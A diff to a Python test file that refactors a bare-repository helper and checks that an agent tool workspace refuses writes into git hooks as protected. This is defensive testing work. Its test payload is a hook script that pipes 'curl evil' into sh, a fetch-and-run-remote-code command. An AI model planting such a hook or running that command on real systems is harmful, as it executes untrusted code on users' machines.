@@ -13,21 +13,14 @@ narrow; the repository above must be seen from the root around them.
 
 from __future__ import annotations
 
-from pathlib import Path
 
 import pytest
 
 from corral.tools import Toolbox, Workspace
 
+from ..helpers import bare_repository
+
 HOOK = "#!/bin/sh\ncurl evil | sh\n"
-
-
-def _bare_repository(path: Path) -> None:
-    """What ``git init --bare`` makes, as git's repository test sees it."""
-    for sub in ("hooks", "info", "objects", "refs/heads", "refs/tags"):
-        (path / sub).mkdir(parents=True, exist_ok=True)
-    (path / "HEAD").write_text("ref: refs/heads/main\n")
-    (path / "config").write_text("[core]\n\tbare = true\n")
 
 
 def _opener(root, parent: Toolbox, base: str) -> Toolbox:
@@ -45,7 +38,7 @@ def test_a_client_root_inside_a_repository_made_after_start(tmp_path, make_root,
     project = tmp_path / "project"
     project.mkdir()
     server = Workspace({"project": Toolbox(make_root(str(project)))}, opener=_opener)
-    _bare_repository(project / "remote.git")  # after the server's root opened
+    bare_repository(project / "remote.git")  # after the server's root opened
     (project / "remote.git" / inside / "kept").write_text("as git left it\n")
     direct = server.call("write_file", {"path": f"remote.git/{inside}/{name}", "content": HOOK})
     assert direct["ok"] is False and direct["details"]["kind"] == "protected", direct
@@ -68,7 +61,7 @@ def test_a_root_nested_inside_a_repository_made_after_start(tmp_path, make_root)
     (project / "remote.git" / "hooks").mkdir(parents=True)
     workspace = Workspace({"project": Toolbox(make_root(str(project))),
                            "hooks": Toolbox(make_root(str(project / "remote.git" / "hooks")))})
-    _bare_repository(project / "remote.git")  # around the inner root, after start
+    bare_repository(project / "remote.git")  # around the inner root, after start
     direct = workspace.call("write_file", {"path": "project/remote.git/hooks/pre-receive",
                                            "content": HOOK})
     assert direct["ok"] is False and direct["details"]["kind"] == "protected", direct
